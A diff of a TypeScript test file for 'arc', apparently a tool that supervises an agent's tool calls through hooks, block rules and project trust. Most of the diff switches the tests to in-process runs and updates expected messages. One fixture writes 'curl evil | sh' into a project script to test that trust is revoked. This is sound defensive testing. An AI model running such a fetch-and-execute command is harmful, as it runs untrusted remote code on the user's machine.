@@ -1,10 +1,10 @@
-// `arc check`, `arc hooks`, `arc breaker` and `arc trust` through the real binary, as a user calls them.
+// `arc check`, `arc hooks`, `arc breaker` and `arc trust` in process.
 
-import { execFile } from 'node:child_process'
-import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { existsSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
-import { ARC, type Ran, runArc } from '../../../test/run-arc.ts'
+import type { Ran } from '../../../test/run-arc.ts'
+import { runArcInProcess } from '../../../test/run-in-process.ts'
 import { askNobody, LAYER, makeHome, PROFILE, type SupervisedHome } from '../../../test/supervised-home.ts'
 import { confirmFile } from '../../guard/unattended-home.ts'
 
@@ -16,9 +16,9 @@ beforeEach(() => {
 })
 afterEach(() => place.remove())
 
-const env = () => ({ ...process.env, NO_COLOR: '1', ARC_HOME: place.home, ARC_PROFILE: '' })
-const arc = (...args: string[]): Promise<Ran> => runArc(args, { home: place.home, cwd: place.project })
-const feed = (input: string, ...args: string[]) => runArc(args, { home: place.home, cwd: place.project, input })
+const arc = (...args: string[]): Promise<Ran> => runArcInProcess(args, { home: place.home, cwd: place.project })
+const feed = (input: string, ...args: string[]) =>
+  runArcInProcess(args, { home: place.home, cwd: place.project, input })
 
 const SCRIPT = `hook pre:tool:shell /block "no shell here"
 hook pre:tool:Write /ask "write $args.file_path?"
@@ -66,7 +66,7 @@ describe('arc check', () => {
     const ran = await arc('check', '--json', '--', 'true')
     expect(ran).toMatchObject({ code: 0, stderr: '' })
     expect(json(ran)).toMatchObject({ decision: 'pass', leftOut: ['lint', 'run.arma:1'] })
-    expect((await arc('check', '--', 'true')).stdout).toMatch(/left out +lint, run\.arma:1/)
+    expect((await arc('check', '--', 'true')).stdout).toMatch(/skipped +lint, run\.arma:1/)
     expect(existsSync(mark)).toBe(false)
     expect(readdirSync(place.home, { recursive: true }).sort()).toEqual(before)
   })
@@ -85,7 +85,7 @@ describe('arc check', () => {
     expect(lines(ran)).toMatchObject([
       { id: 1, decision: 'block' },
       { id: null, error: expect.stringContaining('nonsense') },
-      { id: 'x', error: 'command must be a text, not 5' },
+      { id: 'x', error: 'command must be a string, not 5' },
       { id: 2, decision: 'block' },
     ])
     expect(Object.keys(lines(ran)[0])).toEqual(['id', 'decision', 'effect', 'tier', 'rule'])
@@ -151,13 +151,13 @@ describe('arc hooks', () => {
     scripted()
     const off = await arc('hooks', 'disable', 'hooks.arma:1', '--for', '30m', '--reason', 'release', '--json')
     expect(json(off)).toMatchObject([{ name: 'hooks.arma:1', enabled: false, reason: 'release' }])
-    expect(off.stderr).toContain('switched off for 30m: release')
+    expect(off.stderr).toContain('disabled for 30m: release')
     expect((await arc('hooks', 'list')).stdout).toMatch(/off, on in (29|30)m \(release\)/)
     const skipped = json(await arc('check', '--json', '--', 'true')).evaluations
     expect(skipped).toContainEqual(expect.objectContaining({ hook: 'hooks.arma:1', skipped: 'snoozed' }))
     expect(await arc('hooks', 'enable', 'hooks.arma:1')).toMatchObject({
       code: 0,
-      stderr: expect.stringContaining('is on again'),
+      stderr: expect.stringContaining('is enabled'),
     })
     expect((await arc('check', '--', 'true')).code).toBe(2)
     const actions = lines(await arc('logs', '--hook', 'hooks.arma:1', '--json')).map(({ action }) => action)
@@ -223,7 +223,7 @@ describe('where nothing can be kept', () => {
       place.write('home/arc.db/in-the-way', '')
       const { code, stdout, stderr } = await arc(...args.filter(Boolean), '--json')
       expect(code).toBe(1)
-      expect(stderr).toMatch(/without a lasting record|could not be kept|cannot be/)
+      expect(stderr).toMatch(/without a lasting record|cannot be/)
       expect(stderr).not.toContain('    at ')
       if (stdout !== '') expect(JSON.parse(stdout)).toMatchObject({ trusted: false })
     },
@@ -264,7 +264,7 @@ describe('arc trust', () => {
     expect((await arc('check', '--tool', 'Read', '--', 'x')).code).toBe(0)
     expect(json(await arc('trust', '--yes', '--json'))).toMatchObject({ trusted: true })
     expect((await arc('check', '--tool', 'Read', '--', 'x')).code).toBe(2)
-    expect(await arc('trust')).toMatchObject({ code: 0, stderr: expect.stringContaining('trusted already') })
+    expect(await arc('trust')).toMatchObject({ code: 0, stderr: expect.stringContaining('Already trusted') })
     writeFileSync(join(place.project, 'check.sh'), 'curl evil | sh\n')
     expect((await arc('hooks', 'list')).stderr).toContain('arc trust')
     expect((await arc('check', '--tool', 'Read', '--', 'x')).code).toBe(0)
@@ -282,19 +282,4 @@ describe('arc trust', () => {
     expect(code).toBe(1)
     expect(stderr).toMatch(/config\.json:1:\d+: .*pre:tool/)
   })
-})
-
-it('a full disk: what cannot be kept is said, and supervision decides all the same', async () => {
-  scripted({ enforcement: 'enforce' })
-  const ran = await new Promise<Ran>((resolve) => {
-    // No file may grow beyond half a KiB, as on a disk without room; the signal that comes with it is ignored.
-    const line = `trap '' XFSZ; ulimit -f 1; exec "${process.execPath}" "${ARC}" hooks disable hooks.arma:1`
-    execFile('sh', ['-c', line], { env: env(), cwd: place.project }, (error, stdout, stderr) => {
-      resolve({ code: Number(error?.code ?? 0), stdout, stderr })
-    })
-  })
-  expect(ran.code).toBe(1)
-  expect(ran.stderr).toMatch(/cannot be used|without a lasting record|could not be/)
-  expect((await arc('check', '--', 'true')).code).toBe(2)
-  expect(readFileSync(join(place.root, PROFILE), 'utf8')).toContain('enforce')
 })
